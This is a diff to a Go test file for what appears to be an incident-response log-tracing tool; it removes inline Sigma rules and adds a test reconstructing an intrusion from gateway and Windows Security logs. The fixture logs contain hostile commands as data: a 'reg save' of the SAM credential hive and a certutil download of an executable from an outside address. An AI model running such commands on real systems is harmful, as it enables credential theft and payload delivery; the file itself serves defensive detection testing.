@@ -2,6 +2,7 @@ package accuracy_test
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -10,8 +11,6 @@ import (
 	"testing"
 
 	"github.com/contrail-ir/contrail/evidence"
-	"github.com/contrail-ir/contrail/match"
-	"github.com/contrail-ir/contrail/rules"
 	"github.com/contrail-ir/contrail/sweep"
 	"github.com/contrail-ir/contrail/trail"
 )
@@ -34,14 +33,14 @@ func lay(t testing.TB, files map[string]string) string {
 	return root
 }
 
-// follow traces a folder from starts, with Sigma rules besides those that come with Contrail.
-func follow(t testing.TB, root, sigma string, starts ...string) *trail.Trail {
+// follow traces a folder from starts with the rules that come with Contrail.
+func follow(t testing.TB, root string, starts ...string) *trail.Trail {
 	t.Helper()
-	return followSaid(t, root, "", sigma, starts...)
+	return followSaid(t, root, "", starts...)
 }
 
 // followSaid is follow with what a sources.yaml says of the evidence.
-func followSaid(t testing.TB, root, said, sigma string, starts ...string) *trail.Trail {
+func followSaid(t testing.TB, root, said string, starts ...string) *trail.Trail {
 	t.Helper()
 	var sources *evidence.Sources
 	if said != "" {
@@ -50,25 +49,13 @@ func followSaid(t testing.TB, root, said, sigma string, starts ...string) *trail
 			t.Fatal(err)
 		}
 	}
-	question := match.Question{BuiltIn: rules.FS}
-	if sigma != "" {
-		path := filepath.Join(t.TempDir(), "rules.yml")
-		if err := os.WriteFile(path, []byte(sigma), 0o644); err != nil {
-			t.Fatal(err)
-		}
-		question.Sigma = []string{path}
-	}
-	set, rejected := match.Load(question)
-	if len(rejected) > 0 && sigma != "" {
-		t.Fatalf("rules were rejected: %+v", rejected)
-	}
 	g, err := trail.NewGraph(trail.Options{TempDir: t.TempDir()})
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer g.Close()
 	var c collected
-	q := sweep.Question{Roots: []evidence.Root{{Org: "a", Path: root}}, Formats: evidence.Formats(), Rules: set, Sources: sources, TempDir: t.TempDir(), Tap: tap{g}, Threads: 2, NoEvent: true}
+	q := sweep.Question{Roots: []evidence.Root{{Org: "a", Path: root}}, Formats: evidence.Formats(), Rules: shipped(), Sources: sources, TempDir: t.TempDir(), Tap: tap{g}, Threads: 2, NoEvent: true}
 	if err := sweep.Run(context.Background(), q, &c, nil); err != nil {
 		t.Fatal(err)
 	}
@@ -165,13 +152,13 @@ func TestAnAssignedAddressLeadsToTheRemoteSession(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			x.files["res1/auth.log"] = sessionOnServer
-			out := follow(t, lay(t, x.files), "", "res1/auth.log:1")
+			out := follow(t, lay(t, x.files), "res1/auth.log:1")
 			checkTouched(t, out, append(x.want, "res1/auth.log:1"), append(x.not, "res1/auth.log:2"))
 			if !slices.ContainsFunc(out.Nodes, func(n trail.NodeView) bool { return n.Kind == "address" && n.Label == "203.0.113.9" }) {
 				t.Error("where the session came from is missing")
 			}
 			// And from the gateway's side: what was done from the address within.
-			checkTouched(t, follow(t, lay(t, x.files), "", x.want[0]), []string{"res1/auth.log:1"}, append(x.not, "res1/auth.log:2"))
+			checkTouched(t, follow(t, lay(t, x.files), x.want[0]), []string{"res1/auth.log:1"}, append(x.not, "res1/auth.log:2"))
 		})
 	}
 }
@@ -204,8 +191,45 @@ date=2026-03-01 time=08:00:00 devname="gw1" devid="FG1" logid="0100044547" type=
 	} {
 		t.Run(name, func(t *testing.T) {
 			x.files["res1/auth.log"] = sessionOnServer
-			checkTouched(t, follow(t, lay(t, x.files), "", x.start), x.want, append(x.not, "res1/auth.log:2"))
+			checkTouched(t, follow(t, lay(t, x.files), x.start), x.want, append(x.not, "res1/auth.log:2"))
 		})
+	}
+}
+
+// TestFindingsAtTheWayInAndAfterItAreOneIntrusion: one rule finds the account that was made on a gateway, others what was done on a server from its tunnel.
+// The walks meet at the address that the gateway gave, which passes each of them only while it was given.
+func TestFindingsAtTheWayInAndAfterItAreOneIntrusion(t *testing.T) {
+	security := func(id int, at string, data ...string) string {
+		pairs := map[string]string{}
+		for i := 0; i+1 < len(data); i += 2 {
+			pairs[data[i]] = data[i+1]
+		}
+		text, err := json.Marshal(map[string]any{"@timestamp": "2026-03-16T" + at + "Z", "winlog": map[string]any{"channel": "Security", "provider_name": "Microsoft-Windows-Security-Auditing", "event_id": id,
+			"record_id": 100, "computer_name": "res1.air.example", "event_data": pairs}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(text) + "\n"
+	}
+	runs := func(at, pid, parent, image, command string) string {
+		return security(4688, at, "SubjectLogonId", "0x5abc", "SubjectUserName", "adm", "NewProcessId", pid, "NewProcessName", `C:\Windows\System32\`+image, "CommandLine", command, "ProcessId", parent, "ParentProcessName", `C:\Windows\explorer.exe`)
+	}
+	out := follow(t, lay(t, map[string]string{
+		"gw/forti.log": `date=2026-03-16 time=07:55:00 devname="gw1" devid="FG1" logid="0100044547" type="event" subtype="system" level="information" logdesc="Object attribute configured" user="svc-x" ui="jsconsole" remip=203.0.113.9 action="Add" cfgpath="user.local" cfgobj="svc-x" msg="Add user.local svc-x"
+date=2026-03-16 time=08:00:00 devname="gw1" devid="FG1" logid="0101039424" type="event" subtype="vpn" level="information" action="tunnel-up" tunneltype="ssl-tunnel" tunnelid=11 remip=203.0.113.9 tunnelip=10.9.0.7 user="svc-x"
+`,
+		"res1/security.json": security(4624, "08:20:00", "TargetLogonId", "0x5abc", "TargetUserName", "adm", "LogonType", "10", "IpAddress", "10.9.0.7", "IpPort", "50122", "WorkstationName", "-") +
+			runs("08:21:00", "0x600", "0x500", "reg.exe", `reg save hklm\sam C:\ProgramData\s.hiv`) +
+			runs("08:22:00", "0x700", "0x500", "certutil.exe", `certutil -urlcache -split -f http://203.0.113.77/a C:\ProgramData\a.exe`),
+	}))
+	checkTouched(t, out, []string{"gw/forti.log:1", "gw/forti.log:2", "res1/security.json:1", "res1/security.json:2", "res1/security.json:3"}, nil)
+	for _, s := range out.Starts {
+		if !s.Established {
+			t.Errorf("%s stands apart: %s", s.Start, s.Why)
+		}
+	}
+	if !out.Established || out.Access.Host != "gw1" {
+		t.Errorf("established %t, %s; way in %+v", out.Established, out.Why, out.Access)
 	}
 }
 
@@ -266,47 +290,11 @@ func TestALetterIsFoundByWhatItBrought(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			x.files["ws7/sysmon.json"] = documentOpened(path)
-			out := follow(t, lay(t, x.files), "", "ws7/sysmon.json:3")
+			out := follow(t, lay(t, x.files), "ws7/sysmon.json:3")
 			checkTouched(t, out, append(x.want, "ws7/sysmon.json:3"), x.not)
 		})
 	}
 }
-
-// linuxRules are two of level high of a kind that everybody has for Linux.
-const linuxRules = `title: Program run from a folder for passing files
-id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0001
-status: experimental
-logsource:
-    product: linux
-    service: auditd
-detection:
-    selection:
-        type: SYSCALL
-        SYSCALL: execve
-        exe|startswith: '/tmp/'
-    condition: selection
-level: high
-tags:
-    - attack.execution
-    - attack.t1059.004
----
-title: Shell of a web server's account
-id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0002
-status: experimental
-logsource:
-    product: linux
-    service: auditd
-detection:
-    selection:
-        exe|endswith: '/dash'
-        uid: '33'
-    condition: selection
-level: high
-tags:
-    - attack.persistence
-    - attack.initial-access
-    - attack.t1505.003
-`
 
 // call is an event of the audit daemon.
 func call(serial int, at float64, pid, ppid, uid int, exe string, more ...string) string {
@@ -352,7 +340,7 @@ func TestLinuxAndWebLogsAlone(t *testing.T) {
 		if start != "" {
 			starts = []string{start}
 		}
-		out := follow(t, root, linuxRules, starts...)
+		out := follow(t, root, starts...)
 		t.Logf("from %q: %s; %+v; %+v", start, out.Why, out.Access, out.Unseen)
 		checkTouched(t, out, want, not)
 		if !out.Established || out.Access.Technique != "T1190" {
@@ -390,8 +378,7 @@ func TestADeviceThatIsPassedThroughIsARelay(t *testing.T) {
 			"", []string{"net/rtr1.log:1", "net/rtr1.log:2", "net/rtr1.log:3"}},
 	} {
 		t.Run(name, func(t *testing.T) {
-			// Two rules of level high, so that there is a verdict and with it the infrastructure.
-			out := followSaid(t, lay(t, x.files), x.said, routerRules, "net/rtr1.log:1")
+			out := followSaid(t, lay(t, x.files), x.said, "net/rtr1.log:1")
 			checkTouched(t, out, x.want, nil)
 			roles := map[string]string{}
 			for _, p := range out.Infrastructure {
@@ -403,32 +390,3 @@ func TestADeviceThatIsPassedThroughIsARelay(t *testing.T) {
 		})
 	}
 }
-
-const routerRules = `title: Router administered from the internet
-id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0003
-status: experimental
-logsource:
-    product: cisco
-detection:
-    selection:
-        src_ip: '203.0.113.9'
-    condition: selection
-level: high
-tags:
-    - attack.initial-access
-    - attack.t1078
----
-title: Tunnel put into a router
-id: 5b1f36a0-6a0f-4c43-9a0e-5f2a6b1c0004
-status: experimental
-logsource:
-    product: cisco
-detection:
-    selection:
-        command|contains: 'tunnel destination'
-    condition: selection
-level: high
-tags:
-    - attack.command-and-control
-    - attack.t1090.002
-`
